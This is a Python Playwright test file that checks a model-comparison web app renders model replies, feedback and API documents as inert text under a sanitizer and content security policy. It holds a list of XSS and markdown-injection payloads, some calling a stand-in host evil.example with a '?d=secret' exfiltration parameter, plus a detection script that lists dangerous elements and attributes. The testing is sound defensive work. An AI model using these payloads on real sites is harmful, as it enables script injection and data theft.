"""What a model, a person or a vendor wrote is text: nothing of it runs, and nothing is fetched."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, Route, expect

from tests.page.conftest import LIMIT_MS, Board, Visiting, five
from tests.page.test_views import TOO_WIDE

pytestmark = pytest.mark.asyncio(loop_scope="session")
expect.set_options(timeout=LIMIT_MS)

EVIL = "http://evil.example"
HTML = [
    "<script>window.canary = 1</script>",
    f'<script src="{EVIL}/a.js"></script>',
    f'<img src="{EVIL}/a.png?d=secret" onerror="window.canary = 1">',
    "<img src=x onerror=window.canary=1>",
    '<svg onload="window.canary = 1"><script>window.canary = 1</script></svg>',
    f'<svg><image href="{EVIL}/b.png"/><use href="{EVIL}/b.svg#a"/></svg>',
    f'<math><mtext><mglyph><style><img src="{EVIL}/c.png" onerror="window.canary=1">',
    "<math href='javascript:window.canary=1'>click</math>",
    f"<style>@import '{EVIL}/a.css'; * {{ background: url({EVIL}/d.png) }}</style>",
    f'<link rel="stylesheet" href="{EVIL}/b.css"><link rel="prefetch" href="{EVIL}/p">',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0; url={EVIL}/gone">',
    f'<form action="{EVIL}/post"><input name="q"><button autofocus>send</button></form>',
    f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.canary=1</script>">',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<video src="{EVIL}/v" autoplay onloadstart="window.canary=1"></video>',
    '<details open ontoggle="window.canary=1"><summary>s</summary></details>',
    '<a href="javascript:window.canary=1" onclick="window.canary=1" id="said">click</a>',
    f'<a href="//evil.example/x" ping="{EVIL}/ping">ping</a>',
    '<p style="position:fixed;inset:0" class="winner" tabindex="1">over all</p>',
    "<noscript><p title='</noscript><img src=x onerror=window.canary=1>'>",
    "<template shadowrootmode=open><script>window.canary=1</script></template>",
    "<starboard-text>.text</starboard-text><x-y is=script>",
]
MARKDOWN = [
    f"![a picture]({EVIL}/m.png?d=secret)",
    f"![by reference][r]\n\n[r]: {EVIL}/n.png",
    "[click](javascript:window.canary=1)",
    "[click](JaVaScRiPt&colon;window.canary=1)",
    "[click](data:text/html,<script>window.canary=1</script>)",
    "<javascript:window.canary=1>",
    '[title](http://ok.example "x\\" onmouseover=window.canary=1 \\"")',
    f"[![nested]({EVIL}/q.png)]({EVIL}/link)",
    '```js"><script>window.canary=1</script>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=window.canary=1> |",
    "# Heading <svg onload=window.canary=1>",
    "${window.canary=1} {{canary=1}} <!--lit-part-->",
    "W" * 500,
]
HOSTILE = "\n\n".join([*HTML, *MARKDOWN])
SHORT = f"<img src={EVIL}/s.png onerror=window.canary=1><script>window.canary=1</script>'\">"

# Elements that no text may bring, and attributes that would run or load something.
FOUND = """() => {
  const main = document.getElementById("view");
  const elements = "script,style,link,base,meta,iframe,frame,object,embed,img,image,svg,math," +
    "video,audio,source,template,noscript,x-y";
  const found = [...main.querySelectorAll(elements)].map((one) => one.outerHTML.slice(0, 100));
  for (const one of main.querySelectorAll("*"))
    for (const { name, value } of one.attributes) {
      const runs = name.startsWith("on") || /^(ping|src|srcset|action|data)$/.test(name);
      const leads = name === "href" && !/^(#\\/|https?:|mailto:)/.test(value);
      if (runs || leads || name === "style" && !one.matches("canvas"))
        found.push(`${one.tagName} ${name}=${value.slice(0, 80)}`);
    }
  for (const one of main.querySelectorAll("starboard-text *"))
    for (const { name } of one.attributes)
      if (!["href", "rel", "target", "start", "tabindex", "class"].includes(name)) found.push(name);
  for (const one of main.querySelectorAll("starboard-text form, starboard-text input"))
    found.push(one.outerHTML);
  if ("canary" in window) found.push("a script ran");
  return found;
}"""


async def harmless(page: Page) -> None:
    """Whatever is open and whatever is clicked, nothing runs."""
    await page.evaluate(
        "() => document.querySelectorAll('details').forEach((one) => (one.open = true))"
    )
    for link in await page.locator("starboard-text a").all():
        await link.dispatch_event("mouseover")
        await link.dispatch_event("focus")
    assert await page.evaluate(FOUND) == []
    for width in (1280, 390):
        await page.set_viewport_size({"width": width, "height": 900})
        async with asyncio.timeout(60):  # charts follow a moment later
            while await page.evaluate(TOO_WIDE):
                await asyncio.sleep(0.05)


async def test_a_reply_runs_nothing_and_fetches_nothing(board: Board, visiting: Visiting) -> None:
    """In the live run, in the stored answer, in the difference and in the list."""
    board.claude.reply = HOSTILE
    board.nvidia.scores = lambda reply: five(*[4 if reply == HOSTILE else 1] * 5)
    async with visiting(board.origin) as visit:
        page = visit.page
        await page.get_by_label("Prompt").fill(SHORT)
        await page.get_by_role("button", name="Ask the board").click()
        reply = page.locator(".winner starboard-text")
        await expect(reply).to_contain_text("<script>window.canary = 1</script>")
        await harmless(page)
        links = await reply.locator("a").evaluate_all("all => all.map((one) => one.protocol)")
        assert "http:" in links
        assert set(links) <= {"http:", "https:", ":"}  # the last leads nowhere
        rel = await reply.locator("a").first.get_attribute("rel")
        assert rel == "noopener noreferrer nofollow"
        await expect(reply.get_by_text("image: a picture")).to_be_visible()
        await page.get_by_role("combobox", name="To").select_option(index=1)
        await expect(page.locator("starboard-diff ins, starboard-diff del").first).to_be_visible()
        await harmless(page)
        await page.get_by_role("link", name="History").click()
        await expect(page.locator(".answers .asked")).to_have_text(SHORT)
        await expect(page.locator(".answers .snippet")).to_contain_text("<script>")
        await harmless(page)
        await page.get_by_role("link", name="Ask again").click()
        await expect(page.get_by_label("Prompt")).to_have_value(SHORT)
        await harmless(page)
        # It could not have been fetched either: the policy stands behind the care.
        assert visit.strangers() == []


async def test_what_people_say_is_text(board: Board, visiting: Visiting) -> None:
    answer = await board.ask(SHORT, system=HOSTILE, tags={"<b onclick=x>": SHORT})
    said = {"comment": HOSTILE, "corrected": HOSTILE}
    await board.client.post(f"/answers/{answer['id']}/feedback", json=said)
    async with visiting(board.origin, f"/#/answers/{answer['id']}") as visit:
        await expect(visit.page.locator(".said li")).to_contain_text("<script>")
        await harmless(visit.page)
        await visit.page.goto("/#/history")
        await visit.page.locator(".answers .meta a.badge").click()
        await expect(visit.page.locator(".answers li")).to_have_count(1)
        await harmless(visit.page)


NAMES = {"id", "created", "rank", "quality", "finish_reason", "scale", "day", "role", "circuit"}


def poisoned(value: Any, name: str = "") -> Any:
    """A document with hostile text in the place of every text that is free."""
    match value:
        case dict():
            return {key: poisoned(one, key) for key, one in value.items()}
        case list():
            return [poisoned(one, name) for one in value]
        case str() if name in {"text", "answer"}:
            return HOSTILE
        case str() if name not in NAMES:
            return SHORT
    return value


async def test_no_text_of_any_document_becomes_markup(
    board: Board, visiting: Visiting, tmp_path: Path
) -> None:
    """Also names of members and models, reasons, notes and messages of failures, should a vendor
    or an operator ever come to write them."""
    board.gemma.fail("unauthorized_401")
    answer = await board.ask(tags={"user": "u1"})
    await board.client.post(f"/answers/{answer['id']}/feedback", json={"thumb": "up"})
    run = {
        "name": "x",
        "base": "x",
        "source": "x",
        "iterations": 1,
        "promoted": [1],
        "best": {"model": "x", "accuracy": 0.5, "low": 0.4, "high": 0.6},
        "seats": [{"member": "x", "model": "x"}],
    }
    measure = {"accuracy": 0.5, "low": 0.4, "high": 0.6}
    told = {
        "/runs": {
            "directory": "x",
            "runs": [run],
            "unreadable": [{"name": "x", "message": "x"}],
        },
        "/runs/x": {
            **run,
            "held_back": ["x"],
            "measured": [{"model": "x", "test": measure, "regression": measure}],
            "rationales": [{"number": 1, "fates": {"generated": 2, SHORT: 1}}],
            "samples": [{"kind": "x", "iteration": 1, "question": "x", "answer": "x", "text": "x"}],
            "manifest": {"x": "x"},
        },
        "/problem": {
            "title": "x",
            "status": 502,
            "detail": "x",
            "members": [
                {"member": "x", "failure": {"kind": "x", "message": "x", "retryable": False}}
            ],
        },
    }

    async def poison(route: Route) -> None:
        path = route.request.url.removeprefix(board.origin).split("?")[0]
        if path.startswith("/page/") or path == "/":
            await route.continue_()
            return
        status = 502 if path == "/answers/problem" else 200
        document = told.get("/problem" if status != 200 else path)
        if document is None:
            document = (await board.client.get(route.request.url)).json()
        await route.fulfill(status=status, json=poisoned(document))

    async with visiting(board.origin, "about:blank") as visit:
        page = visit.page
        await page.route("**/*", poison)
        for path, part in {
            "/#/ask": ".seat",
            f"/#/ask?from={answer['id']}": ".turns, .seat",
            f"/#/answers/{answer['id']}": ".said li",
            "/#/history": ".answers li",
            "/#/board": "starboard-chart[data-drawn]",
            "/#/runs": "table",
            "/#/runs/x": "starboard-chart[data-drawn]",
            "/#/answers/problem": ".problem",
        }.items():
            await page.goto(path)
            await page.locator(part).first.wait_for()
            assert "<script>window.canary" in await page.locator("main").inner_text(), path
            await harmless(page)
        visit.forgive("502")


async def test_the_policy_stands_behind_the_sanitizer(board: Board, visiting: Visiting) -> None:
    """Markup that does get into the page: the browser neither runs it nor fetches for it."""
    async with visiting(board.origin) as visit:
        page = visit.page
        await page.locator(".seat").first.wait_for()
        refused = await page.evaluate(
            """() => {
              try {
                document.body.innerHTML = "<p>";
              } catch (error) {
                return error.name;
              }
            }"""
        )
        assert refused == "TypeError"  # markup from a string wants a policy of trusted types
        await page.evaluate(
            """(evil) => {
              const add = (name, values) =>
                document.body.append(Object.assign(document.createElement(name), values));
              add("img", { src: `${evil}/a.png` });
              add("iframe", { src: `${evil}/frame` });
              add("link", { rel: "stylesheet", href: `${evil}/a.css` });
              try {
                document.createElement("button").setAttribute("onclick", "window.canary = 1");
              } catch (error) {
                if (error.name !== "TypeError") throw error;
              }
              return fetch(`${evil}/b`).catch(() => {});
            }""",
            EVIL,
        )
        assert await page.evaluate("() => 'canary' in window") is False
        told = " ".join(visit.errors)
        for directive in ("img-src", "default-src", "style-src", "connect-src"):
            assert f'"{directive} ' in told, told
        visit.errors.clear()
        # The browser names what it refuses to ask for; nobody was asked.
        assert all(url.startswith(EVIL) for url in visit.strangers())
        assert not [url for url in visit.answered if url.startswith(EVIL)]
        visit.urls.clear()
